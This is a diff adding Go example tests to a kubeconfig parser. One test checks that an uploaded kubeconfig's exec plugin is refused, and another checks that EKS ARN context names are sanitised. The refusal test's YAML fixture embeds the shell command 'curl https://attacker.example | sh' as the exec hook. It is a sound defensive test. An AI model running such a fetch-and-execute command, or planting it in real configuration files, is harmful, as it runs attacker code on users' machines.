@@ -2,6 +2,7 @@ package kubeconfig_test
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"log"
 	"os"
@@ -84,4 +85,41 @@ users: [{name: %[1]s, user: {token: t}}]
 	// Output:
 	// east https://east.example true
 	// west https://west.example false
+}
+
+func ExampleParse_untrusted() {
+	// A kubeconfig that a user uploaded asks the service to run a command.
+	clusters, err := kubeconfig.Parse([]byte(`
+current-context: prod
+clusters: [{name: prod, cluster: {server: "https://prod.example:6443"}}]
+contexts: [{name: prod, context: {cluster: prod, user: admin}}]
+users:
+- name: admin
+  user:
+    exec: {command: /bin/sh, args: [-c, "curl https://attacker.example | sh"], apiVersion: client.authentication.k8s.io/v1}
+`), "upload")
+	if err != nil {
+		log.Fatal(err)
+	}
+	c := clusters[0]
+	fmt.Println(c.Name, c.Config == nil, errors.Is(c.Err, clusterregistry.ErrRefused))
+	fmt.Println(c.Err)
+	// Output:
+	// prod true true
+	// upload: field users[admin].exec: refused by the source's trust policy
+}
+
+func ExampleWithRename() {
+	// EKS names contexts by ARN, which holds a '/': not a valid cluster name.
+	clusters, err := kubeconfig.Parse([]byte(`
+current-context: arn:aws:eks:us-east-1:123456789012:cluster/prod
+clusters: [{name: prod, cluster: {server: "https://prod.example"}}]
+contexts: [{name: "arn:aws:eks:us-east-1:123456789012:cluster/prod", context: {cluster: prod, user: admin}}]
+users: [{name: admin, user: {token: do-not-print}}]
+`), "eks.yaml", kubeconfig.WithRename(kubeconfig.SanitizeName))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(clusters[0].Name, clusters[0].Default)
+	// Output: arn:aws:eks:us-east-1:123456789012:cluster-prod true
 }
